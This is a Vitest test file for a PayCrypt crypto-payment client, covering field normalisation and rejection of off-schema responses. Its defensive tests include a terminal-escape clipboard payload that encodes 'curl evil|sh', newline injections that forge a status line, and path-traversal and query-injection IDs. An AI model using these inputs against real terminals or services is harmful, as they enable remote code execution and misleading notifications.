import { afterEach, describe, expect, it } from 'vitest';
import { createPayCryptClient } from '../../../src/core/providers/paycrypt.ts';
import { PaymonError } from '../../../src/shared/errors.ts';
import type { PaymentRef } from '../../../src/shared/refs.ts';
import { sendJson, startServer, type TestServer } from '../../helpers/http-server.ts';

const KEY = 'sk_live_PAYCRYPT_TESTKEY_987654';
const ID = '9515b51e-0279-4294-805d-91f7762914c3';

/** The spec's example answer (../shared/specs/paycrypt-payment-status.md). */
function specBody(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    payment_id: ID,
    order_id: '123',
    status: 'confirmed',
    amount: 50,
    amount_received: 50.02,
    amount_received_usd: 50.02,
    coin: 'USDT',
    network: 'ethereum',
    currency: 'USD',
    deposit_address: '0x742d35Cc6634C0532925a3b844Bc9e7595f2bD68',
    expires_at: '2026-02-20T10:10:46.000Z',
    tx_hash: '0x8a2f7b3c9d1e5f6a4b8c2d0e1f3a5b7c9d2e4f6a8b0c2d4e6f8a0b2c4d6e8f',
    block_number: '19234567',
    confirmations: 12,
    confirmed_at: '2026-02-20T10:02:15.844Z',
    created_at: '2026-02-20T09:55:46.541Z',
    updated_at: '2026-02-20T10:02:15.844Z',
    customer_email: 'customer@example.com',
    customer_wallet: null,
    metadata: { plan: 'pro', user_id: 'u-789' },
    events: [
      { event_type: 'payment.created', description: 'Payment created.', occurred_at: '2026-02-20T09:55:46.541Z' },
      { event_type: 'payment.confirmed', description: 'Payment confirmed (deposit received).', occurred_at: '2026-02-20T10:02:15.844Z' },
    ],
    ...overrides,
  };
}

let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function fetchWith(body: unknown, ref: PaymentRef = { provider: 'paycrypt', kind: 'payment', value: ID }) {
  server = await startServer((_req, res) => sendJson(res, 200, body));
  const client = createPayCryptClient({ baseUrl: server.url, apiKey: KEY, timeoutMs: 2000 });
  return client.fetchPayment(ref);
}

describe('PayCrypt client', () => {
  it('normalizes the spec example', async () => {
    const { payment, raw } = await fetchWith(specBody());
    expect(payment).toEqual({
      provider: 'paycrypt',
      id: ID,
      orderId: '123',
      status: 'confirmed',
      final: true,
      amountMinor: 5000,
      currency: 'USD',
      createdAt: '2026-02-20T09:55:46.541Z',
      completedAt: null,
      confirmedAt: '2026-02-20T10:02:15.844Z',
      updatedAt: '2026-02-20T10:02:15.844Z',
      customerEmail: 'customer@example.com',
      customerName: null,
      metadata: { plan: 'pro', user_id: 'u-789' },
      customerWallet: null,
      coin: 'USDT',
      network: 'ethereum',
      depositAddress: '0x742d35Cc6634C0532925a3b844Bc9e7595f2bD68',
      expiresAt: '2026-02-20T10:10:46.000Z',
      txHash: '0x8a2f7b3c9d1e5f6a4b8c2d0e1f3a5b7c9d2e4f6a8b0c2d4e6f8a0b2c4d6e8f',
      blockNumber: '19234567',
      confirmations: 12,
      amountReceived: '50.02',
      amountReceivedUsdMinor: 5002,
      events: [
        { type: 'payment.created', description: 'Payment created.', at: '2026-02-20T09:55:46.541Z' },
        { type: 'payment.confirmed', description: 'Payment confirmed (deposit received).', at: '2026-02-20T10:02:15.844Z' },
      ],
    });
    expect(raw).toEqual(specBody());
    expect(server?.requests[0]?.url).toBe(`/payment/status?payment_id=${ID}`);
    expect(server?.requests[0]?.headers.authorization).toBe(`Bearer ${KEY}`);
  });

  it.each([
    ['pending', false],
    ['confirmed', true],
    ['underpaid', true],
    ['overpaid', true],
    ['expired', true],
    ['failed', true],
    ['refund_pending', false],
  ])('status %s -> final %s', async (status, final) => {
    const { payment } = await fetchWith(specBody({ status }));
    expect(payment.status).toBe(status);
    expect(payment.final).toBe(final);
  });

  it.each([
    [{ amount: 19.99 }, 'amountMinor', 1999],
    [{ amount: 0.1 }, 'amountMinor', 10],
    [{ amount: '19.99' }, 'amountMinor', 1999],
    [{ amount: 123456789.12 }, 'amountMinor', 12345678912],
    [{ amount: 10.005 }, 'amountMinor', 1001],
    [{ amount_received: 1e-7 }, 'amountReceived', '0.0000001'],
    [{ amount_received: '0.00012000' }, 'amountReceived', '0.00012'],
    [{ amount_received_usd: 0.29 }, 'amountReceivedUsdMinor', 29],
    [{ order_id: 4567 }, 'orderId', '4567'],
    [{ block_number: 19234567 }, 'blockNumber', '19234567'],
    [{ currency: 'usd' }, 'currency', 'USD'],
  ])('converts %j', async (overrides, field, expected) => {
    const { payment } = await fetchWith(specBody(overrides));
    expect((payment as unknown as Record<string, unknown>)[field]).toBe(expected);
  });

  it('sets missing optional fields to null and tolerates unknown ones', async () => {
    const { payment } = await fetchWith({ payment_id: ID, status: 'pending', amount: 5, surprise: [1], fee: { usd: 1 } });
    expect(payment).toMatchObject({
      orderId: null,
      amountMinor: 500,
      currency: 'USD',
      amountReceived: null,
      amountReceivedUsdMinor: null,
      txHash: null,
      blockNumber: null,
      confirmations: null,
      expiresAt: null,
      metadata: {},
      events: [],
    });
  });

  it('sorts events by time, stably, and drops malformed ones', async () => {
    const events = [
      { event_type: 'b', description: 'second', occurred_at: '2026-02-20T10:00:00Z' },
      { event_type: 'a', description: 'first', occurred_at: '2026-02-20T09:00:00+00:00' },
      { event_type: 'c', description: 'same time as b', occurred_at: '2026-02-20T11:00:00+01:00' },
      { description: 'no type' },
      'junk',
    ];
    const { payment } = await fetchWith(specBody({ events }));
    expect(payment.provider === 'paycrypt' && payment.events.map((e) => `${e.type}@${e.at}`)).toEqual([
      'a@2026-02-20T09:00:00.000Z',
      'b@2026-02-20T10:00:00.000Z',
      'c@2026-02-20T10:00:00.000Z',
    ]);
  });

  it('looks up by order ID through an encoded query and accepts a {data} wrapper', async () => {
    const ref: PaymentRef = { provider: 'paycrypt', kind: 'order', value: 'ord:12.a' };
    const { payment } = await fetchWith({ data: specBody({ order_id: 'ord:12.a' }) }, ref);
    expect(payment.orderId).toBe('ord:12.a');
    expect(server?.requests[0]?.url).toBe('/payment/status?order_id=ord%3A12.a');
  });

  it.each([
    ['amount not numeric', { amount: 'fifty' }, /amount/],
    ['amount missing', { amount: undefined }, /amount/],
    ['status a number', { status: 3 }, /status/],
    ['payment_id missing', { payment_id: undefined }, /payment_id/],
    ['another payment', { payment_id: '00000000-0000-4000-8000-000000000000' }, /different payment/],
    // Issue 16: the currency goes into notification titles; only a three-letter code is one.
    ['a long multi-line currency', { currency: `USD\nStatus: completed (final)${'x'.repeat(300)}` }, /currency: expected a three-letter currency code/],
    ['a four-letter currency', { currency: 'USDT' }, /currency: expected a three-letter/],
    ['a currency with an escape', { currency: 'U\u001bD' }, /currency: expected a three-letter/],
    ['a numeric currency', { currency: 840 }, /currency: expected a three-letter/],
  ])('rejects an off-schema 200 (%s) as bad_response', async (_name, overrides, message) => {
    const err = (await fetchWith(specBody(overrides)).catch((e: unknown) => e)) as PaymonError;
    expect(err).toBeInstanceOf(PaymonError);
    expect(err.kind).toBe('bad_response');
    expect(err.message).toMatch(message);
  });

  it.each([
    ['text with a terminal escape', `\u001b]52;c;${Buffer.from('curl evil|sh').toString('base64')}\u0007`],
    ['a UUID with a line after it', `${ID}\nStatus: completed (final)`],
    ['a UUID with spaces around it', ` ${ID} `],
    ['a Card2Crypto ID', 'pay_abc123'],
    ['an empty string', ''],
  ])('rejects a payment_id that is not a UUID (%s) from an order lookup as bad_response', async (_name, paymentId) => {
    // An order lookup has no ID of ours to compare with: the schema alone must hold the line (issue 16).
    const ref: PaymentRef = { provider: 'paycrypt', kind: 'order', value: '123' };
    const err = (await fetchWith(specBody({ payment_id: paymentId }), ref).catch((e: unknown) => e)) as PaymonError;
    expect(err).toBeInstanceOf(PaymonError);
    expect(err.kind).toBe('bad_response');
    expect(err.message).toMatch(/payment_id: expected a PayCrypt payment ID \(a UUID\)/);
    expect(err.message).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });

  it('accepts an upper-case UUID from an order lookup and a missing currency as USD', async () => {
    const ref: PaymentRef = { provider: 'paycrypt', kind: 'order', value: '123' };
    const { payment } = await fetchWith(specBody({ payment_id: ID.toUpperCase(), currency: null }), ref);
    expect(payment.id).toBe(ID.toUpperCase());
    expect(payment.currency).toBe('USD');
  });

  it.each([
    { provider: 'paycrypt', kind: 'payment', value: '../../admin' },
    { provider: 'paycrypt', kind: 'order', value: '../../admin' },
    { provider: 'paycrypt', kind: 'order', value: '1&payment_id=x' },
    { provider: 'paycrypt', kind: 'payment', value: 'pay_abc123' },
  ] satisfies PaymentRef[])('refuses %j before any request', async (ref) => {
    const err = (await fetchWith(specBody(), ref).catch((e: unknown) => e)) as PaymonError;
    expect(err.kind).toBe('invalid_input');
    expect(server?.requests).toHaveLength(0);
  });
});
